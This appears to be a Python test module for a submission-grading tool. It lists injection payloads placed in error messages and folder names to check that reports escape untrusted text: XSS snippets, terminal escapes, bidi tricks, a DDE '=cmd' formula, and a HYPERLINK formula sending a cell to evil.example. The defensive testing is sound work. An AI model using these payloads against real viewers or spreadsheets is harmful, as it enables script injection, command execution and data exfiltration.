"""The reader: what is told of a submission tries to act on whoever reads it."""

from __future__ import annotations

from .attack import Attack, in_cell

PAYLOADS = {
    "html": "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "an end of the page": "</pre></td></table></body></html><h1>90 of 90",
    "an attribute": '" onmouseover="alert(3)" x=\'',
    "markdown": "[90 of 90](javascript:alert(4)) ![x](http://evil.example/x.png)",
    "terminal escapes": "\x1b[2J\x1b]0;owned\x07\x1b[31m90 of 90\x1b[0m\x9b2J",
    "rich markup": "[bold red]90 of 90[/] [link=http://evil.example]here[/link] [/nonsense]",
    "a formula": '=HYPERLINK("http://evil.example?"&A1,"90")',
    "right to left": "\u202e09 fo 09\u202c \u2066x\u2069 \u200b\ufeff",
    "control characters": "a\x00b\x08\x08\x7f\r\n90 of 90\x0b\x0c\x85\u2028",
    "lone surrogates": "\udc80\ud800 90",
    "a template": "{{ 7 * 7 }} {% raw %} ${7*7} %s %(x)s {0}",
    "a line of results": '\n{"student": "x", "score": 90.0}\n',
}
_NAMES = {
    "html": "<eve onclick=alert(5)>eve<",
    "a formula": "=cmd|' !A0'",
    "another formula": "@SUM(1+1)",
    "rich markup": "[red]eve",
    "terminal escapes": "eve\x1b[2J",
    "a line": "eve\n90 of 90",
    "right to left": "eve\u202e09",
    "dots": "x...",
    "a percent": "eve%2e%2e%2f",
    "an option": "--out=x",
}

ATTACKS = (
    *(
        Attack(f"error text: {title}", in_cell(f"raise ValueError({text!a})"))
        for title, text in PAYLOADS.items()
    ),
    Attack(
        "error type with a name in html",
        in_cell("raise type('<script>alert(6)</script>', (Exception,), {})('x')"),
    ),
    Attack(
        "a name that is missing in html",
        in_cell("raise NameError('x', name='<script>alert(7)</script>')"),
    ),
    *(
        Attack(f"name of a folder: {title}", in_cell("raise ValueError('x')"), student=name)
        for title, name in _NAMES.items()
    ),
)
